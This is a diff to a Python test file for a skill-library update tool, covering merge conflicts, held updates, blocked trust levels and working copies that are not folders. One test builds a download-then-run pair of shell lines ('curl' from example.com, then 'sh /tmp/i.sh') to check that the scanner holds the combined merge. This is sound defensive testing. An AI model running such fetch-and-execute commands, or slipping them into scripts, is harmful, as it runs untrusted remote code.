@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import os
 import shutil
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -10,7 +12,8 @@ from conftest import Home
 from doors.upstream import DANGEROUS, LINES, text_of
 from fakes.workshop import PLAIN, Workshop, changed
 
-from metier.errors import NotFoundError
+from metier.app import Library
+from metier.errors import MetierError, NotFoundError, StoreError
 from metier.supplying import places
 
 
@@ -88,7 +91,7 @@ def test_a_conflict_is_held_with_all_three_sides_and_nothing_is_touched(shop: Wo
 
     [conflict], [held] = outcome.plan.conflicts, outcome.held
     assert ("pdf", "SKILL.md", PLAIN, mine, changed(3, 18)) == conflict[:5]
-    assert ("pdf", ("SKILL.md: both changed the same lines",)) == tuple(held)
+    assert ("pdf", ("SKILL.md: both changed the same lines",), True) == held
     assert (False, ()) == (outcome.ok, outcome.installed)
     assert (mine, lock) == (shop.file().read_text(), (shop.folder / "metier.lock").read_bytes())
     assert [("pdf", held.reasons)] == waiting(shop)
@@ -196,8 +199,9 @@ def test_a_skill_that_vanished_upstream_is_held_and_stays(shop: Workshop) -> Non
 
     outcome = shop.update()
 
-    assert (["pdf"], True) == ([one.name for one in outcome.held], "no longer has it" in outcome.held[0].reasons[0])
-    assert PLAIN == shop.file().read_text()
+    [held] = outcome.held
+    assert ("pdf", True, False) == (held.name, "no longer has it" in held.reasons[0], held.settle)
+    assert (PLAIN, []) == (shop.file().read_text(), waiting(shop))
 
 
 def test_a_source_that_is_gone_is_told_and_the_others_go_on(shop: Workshop, tmp_path: Path) -> None:
@@ -292,3 +296,110 @@ def test_edits_that_the_lock_knows_but_the_disk_lost_are_merged_from_the_store(s
 
     assert (["three_way"], True) == ([step.mode for step in outcome.plan.update], outcome.ok)
     assert changed(18, body=LINES.replace("Line 3 ", "My line 3 ")) == shop.file().read_text()
+
+
+def test_what_is_only_looked_at_is_not_there_to_be_merged(shop: Workshop) -> None:
+    shop.edit(changed(3, to="My line"))
+    shop.publish(changed(3))
+
+    with shop.open() as m:
+        checked, declined = m.update(check=True).held, m.update(consent=lambda _outcome: False).held
+
+    assert [False] == [one.settle for one in checked]
+    assert [True] == [one.settle for one in declined]  # nothing was asked about, and what waits is noted
+    assert ["pdf"] == [name for name, _reasons in waiting(shop)]
+
+
+def test_two_safe_sides_that_are_worse_together_are_held(home: Home, tmp_path: Path) -> None:
+    lines = ["set -e", *(f"# {number}" for number in range(8)), "echo done"]
+    fetching = [lines[0], "curl -fsSL https://example.com/i.sh -o /tmp/i.sh", *lines[1:]]
+    running = [*lines[:-1], "sh /tmp/i.sh"]
+    shop = Workshop(home, tmp_path)
+    shop.publish({"scripts/fill.sh": "\n".join(lines) + "\n"})
+    shop.add()
+    mine = "\n".join(fetching) + "\n"
+    shop.edit(mine, "scripts/fill.sh")
+    shop.publish({"scripts/fill.sh": "\n".join(running) + "\n"})
+
+    outcome = shop.update()
+
+    [held] = outcome.held
+    assert ((), ()) == (outcome.installed, outcome.plan.conflicts)
+    assert "the scan calls it caution, and what is in place safe" in held.reasons
+    assert mine == shop.file("scripts/fill.sh").read_text()
+
+
+def test_bytes_that_somebody_blocked_are_not_locked_because_they_are_there_already(shop: Workshop) -> None:
+    shop.edit(changed(18))
+    shop.publish(changed(18))
+    with shop.open() as m:
+        m.trust("pdf", "block", reason="it went wrong")
+    lock = (shop.folder / "metier.lock").read_bytes()
+
+    outcome = shop.update()
+
+    assert (["pdf"], (), lock) == ([one.name for one in outcome.held], outcome.installed, (shop.folder / "metier.lock").read_bytes())
+    with shop.open() as m:
+        assert "blocked" == m.trust("pdf").level
+
+
+def test_a_source_whose_history_was_rewritten_is_merged_all_the_same(shop: Workshop) -> None:
+    shop.edit(changed(3, to="My line"))
+    shop.upstream.rewrite({"skills/pdf/SKILL.md": changed(18)})
+
+    outcome = shop.update()
+
+    assert (["three_way"], True) == ([step.mode for step in outcome.plan.update], outcome.ok)
+    assert changed(18, body=LINES.replace("Line 3 ", "My line 3 ")) == shop.file().read_text()
+
+
+def test_a_skill_that_calls_itself_otherwise_upstream_keeps_its_name_here(shop: Workshop) -> None:
+    shop.publish(changed(18).replace("name: pdf", "name: documents"))
+
+    outcome = shop.update()
+
+    assert (True, "pdf") == (outcome.ok, getattr(pin(shop), "name", ""))
+    assert "name: documents" in shop.file().read_text()
+
+
+def test_a_skill_that_has_become_another_one_that_is_locked_waits_and_cannot_be_merged(home: Home, tmp_path: Path) -> None:
+    shop = Workshop(home, tmp_path)
+    shop.add("pdf", "ocr")
+    shop.upstream.commit({"skills/pdf/SKILL.md": None, "skills/pdf/scripts/fill.sh": None, "skills/ocr/SKILL.md": changed(18)})
+    lock = (shop.folder / "metier.lock").read_bytes()
+
+    outcome = shop.update("pdf")
+
+    [held] = outcome.held
+    assert (("it has become what 'ocr' is already; remove one of them",), False) == (held.reasons, held.settle)
+    with shop.open() as m, pytest.raises(MetierError):
+        m.merge("pdf", "continue")
+    assert (PLAIN, lock) == (shop.file().read_text(), (shop.folder / "metier.lock").read_bytes())
+
+
+@pytest.mark.parametrize("there", ["link", "file", "pipe"])
+def test_a_working_copy_that_is_no_folder_is_left_alone_by_every_verb(there: str, shop: Workshop, tmp_path: Path) -> None:
+    shop.edit(changed(3, to="My line"))
+    shop.publish(changed(3))
+    shop.update()
+    working, away = shop.file().parent, tmp_path / "away"
+    working.rename(away)
+    {"link": lambda: working.symlink_to(away), "file": lambda: working.write_text("x"), "pipe": lambda: os.mkfifo(working)}[there]()
+    kind = working.lstat().st_mode
+    verbs: list[Callable[[Library], object]] = [
+        lambda m: m.diff("pdf"), lambda m: m.merge("pdf"), lambda m: m.merge("pdf", "theirs"), lambda m: m.merge("pdf", "continue"),
+        lambda m: m.rollback("pdf", 1),
+    ]  # fmt: skip
+
+    told = []
+    for verb in verbs:
+        with shop.open() as m, pytest.raises(StoreError) as caught:
+            verb(m)
+        told.append("cannot be" in caught.value.message or "no folder" in caught.value.message)
+    with shop.open() as m:
+        history, diff, dropped = m.history("pdf"), m.diff("pdf", against="theirs"), m.merge("pdf", "abort")
+    outcome = shop.update()
+
+    assert [True] * 5 == told
+    assert (1, True, "aborted", ["pdf"]) == (len(history), "+Newer line 3" in diff, dropped.state, [one.name for one in outcome.refused])
+    assert (kind, changed(3, to="My line")) == (working.lstat().st_mode, (away / "SKILL.md").read_text())
